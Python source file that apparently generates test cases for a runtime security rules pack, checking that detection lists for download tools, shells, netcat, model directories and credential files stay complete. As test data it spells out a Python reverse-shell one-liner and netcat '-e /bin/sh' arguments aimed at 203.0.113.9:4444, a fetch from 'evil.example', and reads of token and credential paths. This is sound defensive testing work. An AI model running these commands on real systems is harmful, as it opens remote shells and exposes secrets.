"""List-completeness cases: one derived case per item of each list (and list-mirroring macro) of the
shipped pack that a rule's detection depends on, built from the **pack's** items, not the loaded
ones. A tuning that replaces such a list without an item, or excepts an item (a `.pkl` model load, the
huggingface-cli download tool), fails on the case named after that item.

Only lists whose items make a rule fire are here (download tools, shells, interpreters, script
runners, model extensions, model dirs and the directories above them, writable exec dirs, token
dirs and names, home credential files); the allow-lists (egress networks, site roots, public token
files...) only quiet a rule, and a tuning that drops one of their items makes more alerts, not fewer.
"""

# ruff: noqa: S108 - the paths are what the attacker's program names: text in derived captures.

from __future__ import annotations

import re
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

from responder.rulespack.derived import DerivedCase
from responder.rulespack.evasions_common import (
    CREDENTIALS,
    DOWNLOAD,
    DRIFT,
    EXEC,
    MODEL_LOAD,
    RENAMED,
    REVERSE_SHELL,
    SHELL,
    TAMPER,
    case,
    exec_as,
    fires,
    opened,
    opens_instead,
    shows,
)
from responder.rulespack.recorded import (
    CAT_H1,
    CURL_F2,
    MV_D2,
    PYTHON_B1,
    PYTHON_C1,
    PYTHON_D1,
    SERVICE_ACCOUNT_TOKEN,
    SH_A1,
    CaptureLibrary,
    Replacements,
    rename,
)
from responder.rulespack.rulesfile import ListItem, MacroItem, read_rules_file

RECORDED_MODEL_LOAD = "/tmp/evil/model.pt"  # c1 reads it
RECORDED_MODEL_WRITE = "/models/resnet/model.pt"  # d1 appends to it
OUTSIDE_TOOL = "/opt/tools"  # a directory no list names: the item alone must match
ONE_LINER = 's=socket();s.connect(("203.0.113.9",4444));dup2(s,0);exec("/bin/sh")'
_ENDSWITH = re.compile(r"fd\.name endswith (\S+?)\)?(?:\s|$)")


@dataclass(frozen=True)
class PackLists:
    """The shipped pack's lists and macro conditions, by name (the first definition of each)."""

    lists: Mapping[str, tuple[str, ...]]
    macros: Mapping[str, str]

    def items(self, name: str) -> tuple[str, ...]:
        if name not in self.lists:
            raise ValueError(f"the pack defines no list {name}: the list cases were written for it")
        return self.lists[name]

    def endswith_paths(self, macro: str) -> tuple[str, ...]:
        """The `fd.name endswith PATH` operands of a macro (a list spelled out as a condition)."""
        if macro not in self.macros:
            raise ValueError(f"the pack defines no macro {macro}: the list cases were written for it")
        return tuple(_ENDSWITH.findall(self.macros[macro]))


def read_pack_lists(pack: Path) -> PackLists:
    rules_file = read_rules_file(str(pack))
    lists: dict[str, tuple[str, ...]] = {}
    macros: dict[str, str] = {}
    for item in rules_file.items:
        if isinstance(item, ListItem):
            lists.setdefault(item.name, item.items)
        elif isinstance(item, MacroItem):
            macros.setdefault(item.name, item.condition)
    return PackLists(lists, macros)


def _group(name: str, what: str) -> str:
    return f"{name}: each item {what}"


def _exec_case(
    group: str, item: str, recorded_rule: tuple[str, str], path: str, argv: list[str], name: str
) -> DerivedCase:
    recorded = {"sh": SH_A1, "curl": CURL_F2, "python": PYTHON_B1}[recorded_rule[0]]
    return case(
        group,
        item,
        recorded,
        exec_as(recorded, path=path, argv=argv, name=name),
        fires(recorded_rule[1], True, EXEC, count=1),
        witness=(shows(EXEC, {"proc.name": name, "proc.exepath": path}),),
    )


def _by_name(
    lists: PackLists, name: str, recorded_rule: tuple[str, str], what: str, args: Sequence[str]
) -> list[DerivedCase]:
    """A program of each item's name, from a directory no list names."""
    group = _group(name, what)
    return [
        _exec_case(group, item, recorded_rule, f"{OUTSIDE_TOOL}/{item}", [item, *args], item[:15])
        for item in lists.items(name)
    ]


def _by_path(
    lists: PackLists, name: str, recorded_rule: tuple[str, str], what: str, args: Sequence[str]
) -> list[DerivedCase]:
    """A program at each item's path, under a name no list names."""
    group = _group(name, what)
    return [_exec_case(group, item, recorded_rule, item, ["x", *args], "x") for item in lists.items(name)]


def _opens(group: str, rule: str, item: str, recorded: str, path: str) -> DerivedCase:
    source = {"c1": (PYTHON_C1, RECORDED_MODEL_LOAD), "d1": (PYTHON_D1, RECORDED_MODEL_WRITE)}[recorded]
    return case(
        group,
        item,
        source[0],
        opens_instead(source[0], source[1], path),
        fires(rule, True, opened(path)),
        witness=(shows(opened(path), count=None),),
    )


def _token_case(group: str, item: str, path: str) -> DerivedCase:
    return case(
        group,
        item,
        CAT_H1,
        opens_instead(CAT_H1, SERVICE_ACCOUNT_TOKEN, path),
        fires(CREDENTIALS, True, opened(path), count=1),
    )


def _renamed_away(path: str) -> Callable[[CaptureLibrary], Replacements]:
    def derive(library: CaptureLibrary) -> Replacements:
        return rename(library, path, f"{path}.orig")

    return derive


def _files(lists: PackLists) -> list[DerivedCase]:
    cases = []
    group = _group("serving_guard_model_extensions", "loaded from /tmp is a model load")
    for ext in lists.items("serving_guard_model_extensions"):
        cases.append(_opens(group, MODEL_LOAD, ext, "c1", f"/tmp/evil/model{ext}"))
    group = _group("serving_guard_model_dirs", "written is tampering")
    for item in lists.items("serving_guard_model_dirs"):
        cases.append(_opens(group, TAMPER, item, "d1", f"{item}/m/config.pbtxt"))
    group = _group("serving_guard_model_dirs", "written through /proc/1/root is tampering")
    for item in lists.items("serving_guard_model_dirs"):
        cases.append(_opens(group, TAMPER, item, "d1", f"/proc/1/root{item}/m/config.pbtxt"))
    group = _group("serving_guard_model_dir_ancestors", "renamed away is tampering")
    for item in lists.items("serving_guard_model_dir_ancestors"):
        cases.append(
            case(
                group,
                item,
                MV_D2,
                _renamed_away(item),
                fires(TAMPER, True, RENAMED),
                witness=(shows(RENAMED),),
            )
        )
    group = _group("serving_guard_credential_files", "read is credential access")
    cases += [_token_case(group, item, item) for item in lists.items("serving_guard_credential_files")]
    group = _group("serving_guard_credential_dirs", "read below is credential access")
    for item in lists.items("serving_guard_credential_dirs"):
        cases.append(_token_case(group, item, f"{item}/..data/key"))
    group = _group("serving_guard_token_file_names", "read through /proc/self/cwd is credential access")
    for item in lists.items("serving_guard_token_file_names"):
        cases.append(_token_case(group, item, f"/proc/self/cwd/{item}"))
    group = _group("serving_guard_home_credential_file", "read in /root is credential access")
    for item in lists.endswith_paths("serving_guard_home_credential_file"):
        cases.append(_token_case(group, item, f"/root{item}"))
    return cases


def list_cases(pack: Path) -> list[DerivedCase]:
    """The list-completeness cases of the pack at ``pack`` (the shipped one: its items are the ones
    no tuning may lose)."""
    lists = read_pack_lists(pack)
    download = ("curl", DOWNLOAD)
    shell = ("sh", SHELL)
    reverse = ("python", REVERSE_SHELL)
    drift = ("curl", DRIFT)
    url = ["evil.example/x"]
    cases = [
        *_by_name(lists, "serving_guard_download_tools", download, "by name is a download", url),
        *_by_path(lists, "serving_guard_download_tool_paths", download, "by path is a download", url),
        *_by_name(lists, "serving_guard_shell_binaries", shell, "by name is a shell", ["-c", "id"]),
        *_by_path(lists, "serving_guard_shell_paths", shell, "by path is a shell", ["-c", "id"]),
        *_by_name(
            lists,
            "serving_guard_script_interpreters",
            reverse,
            "running a reverse-shell one-liner is a reverse shell",
            ["-e", ONE_LINER],
        ),
        *_by_name(
            lists,
            "serving_guard_netcat_binaries",
            reverse,
            "with -e is a reverse shell",
            ["-e", "/bin/sh", "203.0.113.9", "4444"],
        ),
        *_by_name(
            lists, "serving_guard_script_runners", drift, "running /tmp/x.script is drift", ["/tmp/x.script"]
        ),
        *_by_path(
            lists,
            "serving_guard_script_runner_paths",
            drift,
            "running /tmp/x.script is drift",
            ["/tmp/x.script"],
        ),
    ]
    return [*cases, *_exec_dirs(lists), *_files(lists)]


def _exec_dirs(lists: PackLists) -> list[DerivedCase]:
    group = _group("serving_guard_writable_exec_dirs", "holding the program run is drift")
    return [
        _exec_case(group, item, ("curl", DRIFT), f"{item}/x", ["x"], "x")
        for item in lists.items("serving_guard_writable_exec_dirs")
    ]
